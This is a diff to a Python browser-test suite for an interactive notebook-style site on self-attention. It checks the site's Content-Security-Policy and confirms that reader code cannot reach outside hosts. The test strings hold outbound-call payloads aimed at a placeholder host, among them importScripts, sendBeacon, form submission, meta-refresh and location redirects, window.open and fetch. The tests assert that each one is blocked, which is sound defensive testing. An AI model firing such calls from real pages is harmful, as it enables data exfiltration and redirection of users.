@@ -129,7 +129,11 @@ def test_every_cell_shows_what_the_book_shows(chapter, context, http):
     assert live.press() == ""
     cells = page.locator(".cell")
     built = [cell.evaluate(READ) for cell in cells.all()]
+    explorers = page.locator(".sa-explorer[data-sa-ready]").count()
     live.run_all()
+    page.wait_for_function(
+        "count => document.querySelectorAll('.live-output .sa-explorer[data-sa-ready]').length == count", arg=explorers
+    )
     states = page.evaluate(
         "selfattnLive.cells.map(cell => [cell.id, cell.outputs?.list.find(o => o.output_type == 'error')])"
     )
@@ -393,7 +397,7 @@ def test_nothing_is_loaded_before_the_button(visit, http):
 def test_every_page_has_the_policy(site):
     find = re.compile(r'Content-Security-Policy" content="([^"]*)"')
     policies = {find.search(path.read_text(encoding="utf-8"))[1] for path in site.rglob("*.html")}
-    assert len(policies) == 2  # 封面的那一扇门什么也不取
+    assert len(policies) == 3  # 页、投影（备注窗口里有框）；封面的那一扇门什么也不取
     for policy in policies:
         assert policy.startswith("default-src 'none'")
         assert "'unsafe-eval'" not in policy and "http" not in policy and "*" not in policy
@@ -429,12 +433,22 @@ try:
     request.send()
 except Exception:
     print("拒绝")
-socket = WebSocket.new("ws://HOST/c")"""
+socket = WebSocket.new("ws://HOST/c")
+from js import importScripts
+try:
+    importScripts("http://HOST/k")
+except Exception:
+    print("拒绝")"""
 OUT_OF_HTML = """from IPython.display import HTML
 HTML('''<img src="http://HOST/d"><iframe src="http://HOST/e"></iframe><link rel="stylesheet" href="http://HOST/f">
 <script src="http://HOST/g"></script><form action="http://HOST/h" id="form"></form><script>
 document.getElementById("form").submit();
 navigator.sendBeacon("http://HOST/i");
+location.href = "http://HOST/l";
+document.head.insertAdjacentHTML("beforeend", '<meta http-equiv="refresh" content="0;url=http://HOST/m">');
+document.body.append(Object.assign(document.createElement("a"), { href: "http://HOST/n", id: "away" }));
+document.getElementById("away").click();
+window.opened = window.open("http://HOST/o");
 try { eval("1") } catch (error) { window.evaluated = error.name }
 fetch("http://HOST/j").catch(() => window.refused = true);
 </script>''')"""
@@ -442,11 +456,13 @@ fetch("http://HOST/j").catch(() => window.refused = true);
 
 def test_no_way_out(context, shared, elsewhere):
     """读者的代码、输出里的脚本和图片，都连不到别的主机；页面里不能 eval。"""
-    host, came = elsewhere
-    assert shared.text(OUT_OF_PYTHON.replace("HOST", host)) == "拒绝\n拒绝\n"
+    (host, came), pages = elsewhere, len(context.pages)
+    assert shared.text(OUT_OF_PYTHON.replace("HOST", host)) == "拒绝\n" * 3
     shared.run(OUT_OF_HTML.replace("HOST", host))
     shared.page.wait_for_function("() => window.refused && window.evaluated == 'EvalError'")
+    assert shared.page.evaluate("[window.opened, typeof RTCPeerConnection]") == [None, "undefined"]
     assert shared.text("print('还在')") == "还在\n"
+    assert shared.page.url.endswith(CHAPTER) and len(context.pages) == pages
     assert came == []
     context.log.problems.clear()
     context.log.requests.clear()
